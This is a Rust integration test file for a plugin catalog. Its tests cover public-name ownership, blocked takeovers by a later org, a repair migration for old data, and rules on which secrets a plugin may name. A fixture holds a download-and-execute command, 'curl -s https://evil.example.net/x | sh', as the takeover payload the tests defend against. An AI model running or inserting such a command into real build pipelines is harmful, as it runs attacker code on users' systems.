//! Public plugin names belong to the first org that publishes them, against the emulator: the
//! takeover attempt, what lookups and pipelines resolve, the conditional claim, the repair of data
//! written before owners were recorded, and the secrets a plugin may name.

use aws_sdk_dynamodb::types::AttributeValue;
use axum::http::StatusCode;
use pb_api::cli::migrate_public_names;
use pb_aws::attributes::to_item;
use pb_aws::keys::{
    org_gsi2pk, plugin_gsi2sk, plugin_pk, plugin_sk, public_name_pk, public_plugin_gsi1sk,
    PUBLIC_NAME_OWNER_SK, PUBLIC_PLUGINS_GSI1PK,
};
use pb_aws::plugins::{OwnershipRepairReport, PluginCatalog, PluginRecord, PublishError};
use pb_domain::plugin::{PluginSpec, ResolvedFrom};
use pb_plugin_lookup::{
    https_client, Answer, PluginLookup, ResponseSender, ResponseTargets, RetryPolicy,
    ANSWER_RESERVE,
};
use pb_tests::api::{ApiBed, Reply};
use pb_tests::emulator::TestBed;
use serde_json::{json, Value};

const ACME: &str = "acme";
const GLOBEX: &str = "globex";
const INITECH: &str = "initech";
const NAME: &str = "manual-approval";

fn approval(version: &str, access: &str) -> Value {
    json!({
        "name": NAME,
        "version": version,
        "category": "approval",
        "pluginType": "ManualApprovalStep",
        "accessModifier": access,
    })
}

/// The takeover: another image that pipes a download into a shell.
fn takeover(version: &str, access: &str) -> Value {
    json!({
        "name": NAME,
        "version": version,
        "category": "approval",
        "pluginType": "CodeBuildStep",
        "image": "registry.example.net/evil/approve:1",
        "commands": ["curl -s https://evil.example.net/x | sh"],
        "accessModifier": access,
    })
}

async fn publish(api: &ApiBed, token: &str, body: Value) -> Reply {
    api.post_json("/api/plugins", token, &body).await.unwrap()
}

async fn lookup_via_api(api: &ApiBed, token: &str, range: &str) -> Value {
    let body = json!({"plugins": [{"name": NAME, "version": range}]});
    let reply = api
        .post_json("/api/plugins/lookup", token, &body)
        .await
        .unwrap();
    assert_eq!(reply.status, StatusCode::OK, "{:?}", reply.body);
    reply.body
}

/// `(version, from, publisherOrg)` of the one resolved reference.
fn resolved(outcome: &Value) -> (String, String, String) {
    let found = &outcome["resolved"][0];
    (
        found["version"].as_str().unwrap_or_default().into(),
        found["from"].as_str().unwrap_or_default().into(),
        found["publisherOrg"].as_str().unwrap_or_default().into(),
    )
}

fn pin(version: &str, from: &str, publisher: &str) -> (String, String, String) {
    (version.into(), from.into(), publisher.into())
}

fn catalog(bed: &TestBed) -> PluginCatalog {
    PluginCatalog::new(bed.clients.dynamodb.clone(), &bed.stack.catalog_table)
}

fn plugin_lookup(bed: &TestBed) -> PluginLookup {
    PluginLookup::new(
        catalog(bed),
        ResponseSender::new(
            https_client().unwrap(),
            RetryPolicy::default(),
            ResponseTargets::LoopbackForTests,
        ),
    )
}

/// `(version, from, publisher)` that plugin-lookup's direct invoke answers for `org`.
async fn lookup_direct(bed: &TestBed, org: &str, range: &str) -> (String, ResolvedFrom, String) {
    let payload = json!({"orgId": org, "plugins": [{"name": NAME, "version": range}]});
    let deadline = std::time::Instant::now() + ANSWER_RESERVE + std::time::Duration::from_secs(60);
    match plugin_lookup(bed).handle(payload, deadline).await.unwrap() {
        Answer::Lookup(outcome) => {
            let found = &outcome.resolved[0];
            (
                found.version.clone(),
                found.from,
                found.publisher_org.clone(),
            )
        }
        other => panic!("expected a lookup outcome, got {other:?}"),
    }
}

#[tokio::test]
async fn another_org_cannot_take_over_a_public_name_with_a_higher_version() {
    let api = ApiBed::new("own-takeover").await.unwrap();
    let acme = api.token(ACME, &["*"]).await.unwrap();
    let globex = api.token(GLOBEX, &["*"]).await.unwrap();
    let initech = api.token(INITECH, &["*"]).await.unwrap();
    assert_eq!(
        publish(&api, &acme, approval("1.0.0", "public"))
            .await
            .status,
        StatusCode::CREATED
    );

    let attack = publish(&api, &globex, takeover("1.999.0", "public")).await;

    assert_eq!(
        (attack.status, attack.code()),
        (StatusCode::CONFLICT, "conflict")
    );
    assert_eq!(
        attack.body["detail"],
        "the public plugin name 'manual-approval' belongs to another org; publish it privately \
         or under another name"
    );
    // A third org still gets acme's version, through the API and through plugin-lookup.
    assert_eq!(
        resolved(&lookup_via_api(&api, &initech, "^1").await),
        pin("1.0.0", "publicCatalog", ACME)
    );
    assert_eq!(
        lookup_direct(&api.bed, INITECH, "^1").await,
        ("1.0.0".into(), ResolvedFrom::PublicCatalog, ACME.into())
    );
    let versions = api
        .get(&format!("/api/plugins/{NAME}"), Some(&initech))
        .await
        .unwrap();
    let listed: Vec<&str> = versions.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["spec"]["version"].as_str().unwrap())
        .collect();
    assert_eq!(listed, ["1.0.0"]);
    let refused = api
        .get(&format!("/api/plugins/{NAME}/1.999.0"), Some(&initech))
        .await
        .unwrap();
    assert_eq!(refused.status, StatusCode::NOT_FOUND);

    // globex may keep the name for itself, privately; that moves nobody else's reference.
    assert_eq!(
        publish(&api, &globex, takeover("1.999.0", "private"))
            .await
            .status,
        StatusCode::CREATED
    );
    assert_eq!(
        resolved(&lookup_via_api(&api, &globex, "^1").await),
        pin("1.999.0", "callerOrg", GLOBEX)
    );
    assert_eq!(
        resolved(&lookup_via_api(&api, &initech, "^1").await),
        pin("1.0.0", "publicCatalog", ACME)
    );
    // The owner keeps publishing under its name.
    assert_eq!(
        publish(&api, &acme, approval("1.1.0", "public"))
            .await
            .status,
        StatusCode::CREATED
    );
    assert_eq!(
        resolved(&lookup_via_api(&api, &initech, "^1").await),
        pin("1.1.0", "publicCatalog", ACME)
    );
}

#[tokio::test]
async fn a_claim_that_the_listing_missed_still_refuses_the_publish() {
    let bed = TestBed::new("own-claim").await.unwrap();
    // globex's claim, not (yet) visible on GSI1, as right after it was written.
    bed.clients
        .dynamodb
        .put_item()
        .table_name(&bed.stack.catalog_table)
        .item("PK", AttributeValue::S(public_name_pk(NAME)))
        .item("SK", AttributeValue::S(PUBLIC_NAME_OWNER_SK.into()))
        .item("ownerOrg", AttributeValue::S(GLOBEX.into()))
        .item("pluginName", AttributeValue::S(NAME.into()))
        .item(
            "claimedAt",
            AttributeValue::S("2026-11-01T09:00:00Z".into()),
        )
        .send()
        .await
        .unwrap();
    let catalog = catalog(&bed);
    let spec: PluginSpec = serde_json::from_value(approval("1.0.0", "public")).unwrap();

    let error = catalog
        .publish(&record(ACME, spec, "2026-11-02T09:00:00Z"))
        .await
        .unwrap_err();

    assert!(
        matches!(&error, PublishError::PublicNameTaken { name } if name == NAME),
        "{error:?}"
    );
    // The version was not written either: the claim and the version are one transaction.
    assert_eq!(catalog.own_versions(ACME, NAME).await.unwrap(), vec![]);
}

#[tokio::test]
async fn a_pinned_step_records_its_publisher() {
    let api = ApiBed::new("own-pin").await.unwrap();
    let acme = api.token(ACME, &["*"]).await.unwrap();
    let initech = api.token(INITECH, &["*"]).await.unwrap();
    assert_eq!(
        publish(&api, &acme, approval("1.0.0", "public"))
            .await
            .status,
        StatusCode::CREATED
    );
    let definition = json!({
        "name": "payments",
        "project": "payments",
        "source": {"type": "codecommit", "repository": "payments", "branch": "main"},
        "stages": [{"name": "Prod", "steps": [{"plugin": {"name": NAME, "version": "^1"}}]}],
    });

    let created = api
        .post_json("/api/pipelines", &initech, &definition)
        .await
        .unwrap();

    assert_eq!(created.status, StatusCode::CREATED, "{:?}", created.body);
    assert_eq!(
        created.body["pinned"],
        json!([{"stage": "Prod", "step": NAME, "plugin": NAME, "requested": "^1",
                "version": "1.0.0", "category": "approval", "publisherOrg": ACME}])
    );
}

// ---------------------------------------------------------------------------------------------
// Data written before public names had owners

fn record(org: &str, spec: PluginSpec, published_at: &str) -> PluginRecord {
    PluginRecord {
        org: org.into(),
        spec,
        deprecated: false,
        deprecation_message: None,
        published_at: published_at.into(),
        published_by: format!("user@{org}"),
    }
}

/// A public version as the catalog stored it before owners existed: no owner record.
async fn put_the_old_way(bed: &TestBed, org: &str, spec: Value, published_at: &str) {
    let spec: PluginSpec = serde_json::from_value(spec).unwrap();
    let version = semver::Version::parse(&spec.version).unwrap();
    let name = spec.name.clone();
    let mut item = to_item(&record(org, spec, published_at)).unwrap();
    for (key, value) in [
        ("PK", plugin_pk(org, &name)),
        ("SK", plugin_sk(&version)),
        ("GSI2PK", org_gsi2pk(org)),
        ("GSI2SK", plugin_gsi2sk(&name, &version)),
        ("GSI1PK", PUBLIC_PLUGINS_GSI1PK.to_string()),
        ("GSI1SK", public_plugin_gsi1sk(&name, &version, org)),
    ] {
        item.insert(key.into(), AttributeValue::S(value));
    }
    bed.clients
        .dynamodb
        .put_item()
        .table_name(&bed.stack.catalog_table)
        .set_item(Some(item))
        .send()
        .await
        .unwrap();
}

/// acme published `manual-approval` first; globex later published the same version and a higher
/// one, publicly; globex alone published `scan`.
async fn conflicting_catalog(bed: &TestBed) {
    put_the_old_way(
        bed,
        ACME,
        approval("1.0.0", "public"),
        "2026-01-01T09:00:00Z",
    )
    .await;
    put_the_old_way(
        bed,
        GLOBEX,
        takeover("1.0.0", "public"),
        "2026-01-15T09:00:00Z",
    )
    .await;
    put_the_old_way(
        bed,
        GLOBEX,
        takeover("1.999.0", "public"),
        "2026-02-01T09:00:00Z",
    )
    .await;
    let scan = json!({"name": "scan", "version": "1.0.0", "category": "security",
        "pluginType": "CodeBuildStep", "image": "registry.example.com/scan:1",
        "commands": ["scan ."], "accessModifier": "public"});
    put_the_old_way(bed, GLOBEX, scan, "2026-03-01T09:00:00Z").await;
}

#[tokio::test]
async fn the_migration_gives_a_contested_name_to_its_first_publisher_and_is_idempotent() {
    let bed = TestBed::new("own-migrate").await.unwrap();
    conflicting_catalog(&bed).await;
    // Even before the migration, lookups follow the first publisher, not the highest version.
    assert_eq!(
        lookup_direct(&bed, INITECH, "^1").await,
        ("1.0.0".into(), ResolvedFrom::PublicCatalog, ACME.into())
    );

    let report = migrate_public_names(&bed.clients, &bed.stack.catalog_table)
        .await
        .unwrap();

    assert_eq!(
        report,
        OwnershipRepairReport {
            owners_recorded: vec![(NAME.into(), ACME.into()), ("scan".into(), GLOBEX.into())],
            made_private: vec![
                "globex/manual-approval@1.0.0".into(),
                "globex/manual-approval@1.999.0".into()
            ],
        }
    );
    let catalog = catalog(&bed);
    let globex_versions: Vec<(String, Value)> = catalog
        .own_versions(GLOBEX, NAME)
        .await
        .unwrap()
        .into_iter()
        .map(|r| {
            let access = serde_json::to_value(r.spec.access_modifier).unwrap();
            (r.spec.version, access)
        })
        .collect();
    assert_eq!(
        globex_versions,
        [
            ("1.0.0".to_string(), json!("private")),
            ("1.999.0".to_string(), json!("private"))
        ]
    );
    let public: Vec<(String, String)> = catalog
        .public_plugins()
        .await
        .unwrap()
        .into_iter()
        .map(|r| (r.org, format!("{}@{}", r.spec.name, r.spec.version)))
        .collect();
    assert_eq!(
        public,
        [
            (ACME.to_string(), "manual-approval@1.0.0".to_string()),
            (GLOBEX.to_string(), "scan@1.0.0".to_string())
        ]
    );
    // globex keeps its versions for itself; everyone else gets acme's.
    assert_eq!(
        lookup_direct(&bed, GLOBEX, "^1").await,
        ("1.999.0".into(), ResolvedFrom::CallerOrg, GLOBEX.into())
    );
    assert_eq!(
        lookup_direct(&bed, INITECH, "^1").await,
        ("1.0.0".into(), ResolvedFrom::PublicCatalog, ACME.into())
    );
    let spec: PluginSpec = serde_json::from_value(takeover("2.0.0", "public")).unwrap();
    assert!(matches!(
        catalog
            .publish(&record(GLOBEX, spec, "2026-12-01T09:00:00Z"))
            .await,
        Err(PublishError::PublicNameTaken { .. })
    ));

    let again = migrate_public_names(&bed.clients, &bed.stack.catalog_table)
        .await
        .unwrap();
    assert_eq!(again, OwnershipRepairReport::default());
}

#[tokio::test]
async fn before_the_migration_a_later_publisher_cannot_claim_a_contested_name() {
    let api = ApiBed::new("own-legacy").await.unwrap();
    conflicting_catalog(&api.bed).await;
    let globex = api.token(GLOBEX, &["*"]).await.unwrap();
    let acme = api.token(ACME, &["*"]).await.unwrap();

    let attack = publish(&api, &globex, takeover("3.0.0", "public")).await;

    assert_eq!(attack.status, StatusCode::CONFLICT, "{:?}", attack.body);
    assert_eq!(
        publish(&api, &acme, approval("1.2.0", "public"))
            .await
            .status,
        StatusCode::CREATED
    );
    // acme's publish recorded it as the owner; the migration only privatizes globex's versions.
    let report = migrate_public_names(&api.bed.clients, &api.bed.stack.catalog_table)
        .await
        .unwrap();
    assert_eq!(report.owners_recorded, vec![("scan".into(), GLOBEX.into())]);
    assert_eq!(report.made_private.len(), 2);
}

// ---------------------------------------------------------------------------------------------
// Secrets a plugin may name

#[tokio::test]
async fn a_plugin_cannot_name_the_platforms_or_another_orgs_secrets() {
    let api = ApiBed::new("own-secrets").await.unwrap();
    let globex = api.token(GLOBEX, &["*"]).await.unwrap();
    let with_secrets = |version: &str, names: &[&str]| {
        let secrets: Vec<Value> = names.iter().map(|n| json!({"name": n})).collect();
        json!({"name": "deploy-step", "version": version, "category": "deploy",
               "pluginType": "CodeBuildStep", "image": "registry.example.com/deploy:1",
               "commands": ["deploy"], "secrets": secrets})
    };

    let refused = publish(
        &api,
        &globex,
        with_secrets(
            "1.0.0",
            &[
                "pipeline-builder/acme/platform",
                "pipeline-builder/globex/platform",
                "pipeline-builder/api-signing-keys",
                "pipeline-builder/acme/npm-token",
            ],
        ),
    )
    .await;

    assert_eq!(
        (refused.status, refused.code()),
        (StatusCode::UNPROCESSABLE_ENTITY, "validation_failed")
    );
    assert_eq!(
        refused.error_fields(),
        [
            "secrets[0].name",
            "secrets[1].name",
            "secrets[2].name",
            "secrets[3].name"
        ]
    );
    let accepted = publish(
        &api,
        &globex,
        with_secrets(
            "1.0.1",
            &[
                "pipeline-builder/globex/npm-token",
                "pipeline-builder/deploy/notifications-webhook",
                "prod/payments/db-password",
            ],
        ),
    )
    .await;
    assert_eq!(accepted.status, StatusCode::CREATED, "{:?}", accepted.body);
}
